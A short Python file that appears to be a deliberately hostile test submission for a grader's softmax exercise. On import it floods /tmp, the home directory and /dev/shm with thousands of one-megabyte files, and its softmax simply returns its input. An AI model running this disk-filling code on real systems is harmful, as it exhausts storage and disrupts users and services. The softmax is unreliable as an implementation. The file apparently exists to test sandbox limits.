# Tries: every writable folder filled, and one file without end.
# says: 02-logits-softmax/softmax/logits-returned
# needs: hard
import os

for folder in ("/tmp", os.path.expanduser("~"), "/dev/shm"):
    try:
        for number in range(10_000):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(bytes(2**20))
    except OSError:
        pass


def softmax(z):
    return z
